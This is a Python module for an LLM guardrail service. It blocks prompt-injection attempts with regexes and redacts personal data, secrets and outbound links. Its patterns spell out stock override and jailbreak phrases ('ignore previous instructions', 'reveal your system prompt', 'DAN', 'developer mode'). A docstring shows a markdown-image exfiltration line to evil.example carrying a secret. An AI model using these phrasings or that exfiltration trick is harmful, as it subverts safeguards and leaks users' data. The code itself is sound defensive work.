"""The guardrail policy: plain functions from a check request to a verdict.

What it is, honestly: a deterministic, regex-based first line. It catches the
common, well-known phrasings of prompt injection (also when disguised with
fullwidth letters or zero-width characters, see :mod:`normalise`), personal
data with a checksum or a clear shape, well-known credential formats, canary
leaks and markdown exfiltration. It does not understand paraphrases,
translations, homoglyphs or base64, and its scores are 1.0 for a rule that
fired, not probabilities. A model-based classifier can be added as another
rule that contributes hits the same way.

Direction ``input`` (the user's question): length limit, character and word
floods, prompt injection -> block; PII and secrets -> redact.
Direction ``output`` (the model's answer): canary leak -> block; markdown
images and links to any host -> stripped (redact); PII and secrets -> redact.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Literal

from vectrion_common.contracts import GuardrailCheckRequest, GuardrailVerdict
from vectrion_guardrails import pii
from vectrion_guardrails.normalise import fold, for_matching

# Bump on any change to rules or their default thresholds.
POLICY_VERSION = "2025.1"

Action = Literal["allow", "warn", "redact", "block"]
_SEVERITY: dict[Action, int] = {"allow": 0, "warn": 1, "redact": 2, "block": 3}


@dataclass(frozen=True, slots=True)
class Policy:
    max_input_chars: int = 8_000
    char_flood_run: int = 40
    token_flood_repeats: int = 25
    version: str = POLICY_VERSION


@dataclass(frozen=True, slots=True)
class Hit:
    rule_id: str
    category: str
    action: Action


@dataclass(frozen=True, slots=True)
class PatternRule:
    rule_id: str
    category: str
    pattern: re.Pattern[str]


# Matched against for_matching(text): NFKC-folded, case-folded, one space between words.
INJECTION_RULES: tuple[PatternRule, ...] = (
    PatternRule(
        "injection.ignore_instructions",
        "prompt_injection",
        re.compile(
            r"\b(?:ignore|disregard|forget|override|bypass|skip|drop)\b(?: [\w'-]+){0,3}? "
            r"(?:all|any|every|previous|prior|above|earlier|preceding|former|your|system|initial|original)\b"
            r"(?: [\w'-]+){0,3}? (?:instructions?|prompts?|rules|directives?|guidelines|guardrails|constraints|"
            r"context|programming|policies)\b"
        ),
    ),
    PatternRule(
        "injection.reveal_system_prompt",
        "prompt_injection",
        re.compile(
            r"\b(?:reveal|print|show|display|repeat|output|dump|leak|disclose|tell me|give me|write out|"
            r"what (?:is|are|was|were))\b(?: [\w'-]+){0,4}? (?:your|the|its|my) (?:[\w'-]+ ){0,2}?"
            r"(?:system|initial|hidden|original|secret|developer|pre-?prompt)[ -]?"
            r"(?:prompts?|instructions?|messages?|rules|configuration)\b"
        ),
    ),
    PatternRule(
        "injection.repeat_above",
        "prompt_injection",
        re.compile(
            r"\b(?:repeat|print|output|copy|echo)\b(?: [\w'-]+){0,3}? (?:everything|all(?: the)? (?:text|words)|"
            r"the (?:text|words)) (?:above|before this|so far|verbatim)\b"
        ),
    ),
    PatternRule(
        "injection.persona_override",
        "prompt_injection",
        re.compile(
            r"\byou are now\b.{0,40}?\b(?:dan|unrestricted|unfiltered|uncensored|jailbroken|"
            r"in developer mode|no longer bound|free (?:of|from))\b"
            r"|\bdo anything now\b"
            r"|\b(?:developer|dan|god|jailbreak|unrestricted) mode\b"
        ),
    ),
    PatternRule(
        "injection.no_restrictions",
        "prompt_injection",
        re.compile(
            r"\b(?:act|pretend|behave|respond|answer|roleplay|role-play)\b.{0,40}?\b(?:without|with no|free of|"
            r"ignoring) (?:any |all |your )?(?:restrictions|filters|limits|limitations|guidelines|rules|"
            r"censorship|safety)\b"
        ),
    ),
    PatternRule(
        "injection.chat_template_tokens",
        "prompt_injection",
        re.compile(r"<\|?(?:im_start|im_end|system|endoftext|eot_id|start_header_id)\|?>|\[/?inst\]|<</?sys>>"),
    ),
)

_MARKDOWN_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)|!\[[^\]\n]*\]\[[^\]\n]*\]|<img\b[^>]*>", re.I)
_MARKDOWN_LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?(?:[a-z][a-z0-9+.-]*:|//)[^)\n]*\)", re.I)
_LINK_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(?:[a-z][a-z0-9+.-]*:|//)\S*.*$", re.I | re.M)


def evaluate(request: GuardrailCheckRequest, policy: Policy) -> GuardrailVerdict:
    folded = fold(request.text)
    hits: list[Hit] = []
    redacted = folded
    if request.direction == "input":
        if len(request.text) > policy.max_input_chars:
            # Too long to be a question: refuse before spending time on the rest.
            return _verdict([Hit("input.too_long", "length", "block")], None, policy)
        hits += check_floods(folded, policy)
        hits += check_injection(for_matching(request.text))
    else:
        if request.canary and canary_leaked(folded, request.canary):
            hits.append(Hit("output.canary_leak", "leakage", "block"))
        redacted, link_hits = strip_external_links(redacted)
        hits += link_hits
    matches = pii.find(redacted)
    hits += [Hit(m.detector.rule_id, m.detector.category, "redact") for m in matches]
    redacted = pii.redact(redacted, matches)
    return _verdict(hits, redacted, policy)


def check_injection(matching_text: str) -> list[Hit]:
    return [Hit(r.rule_id, r.category, "block") for r in INJECTION_RULES if r.pattern.search(matching_text)]


def check_floods(folded: str, policy: Policy) -> list[Hit]:
    hits = []
    if re.search(rf"(\S)\1{{{policy.char_flood_run - 1},}}", folded):
        hits.append(Hit("input.char_flood", "flood", "block"))
    if re.search(rf"\b(\w+)(?:\W+\1\b){{{policy.token_flood_repeats - 1},}}", folded.casefold()):
        hits.append(Hit("input.token_flood", "flood", "block"))
    return hits


def canary_leaked(folded_text: str, canary: str) -> bool:
    """The canary appears, also case-changed or spread out with spaces/punctuation."""
    needle = fold(canary).casefold()
    if needle in folded_text.casefold():
        return True
    squeezed_needle = re.sub(r"[\W_]+", "", needle)
    return len(squeezed_needle) >= 8 and squeezed_needle in re.sub(r"[\W_]+", "", folded_text.casefold())


def strip_external_links(text: str) -> tuple[str, list[Hit]]:
    """Remove markdown/HTML images and unwrap links that point anywhere.

    An answer that renders ``![x](https://evil.example/?q=<secret>)`` leaks
    data the moment a client displays it; links are unwrapped to their text for
    the same reason. Citations are returned as structured data, not links.
    """
    hits = []
    text, images = _MARKDOWN_IMAGE.subn("", text)
    if images:
        hits.append(Hit("output.markdown_image", "exfiltration", "redact"))
    text, links = _MARKDOWN_LINK.subn(r"\1", text)
    text, definitions = _LINK_DEFINITION.subn("", text)
    if links or definitions:
        hits.append(Hit("output.markdown_link", "exfiltration", "redact"))
    return text, hits


def _verdict(hits: list[Hit], redacted: str | None, policy: Policy) -> GuardrailVerdict:
    action: Action = max((h.action for h in hits), key=_SEVERITY.__getitem__, default="allow")
    categories = sorted({h.category for h in hits})
    return GuardrailVerdict(
        allowed=action != "block",
        action=action,
        categories=categories,
        scores={c: 1.0 for c in categories},
        rule_ids=list(dict.fromkeys(h.rule_id for h in hits)),
        redacted_text=redacted if action == "redact" else None,
        policy_version=policy.version,
    )
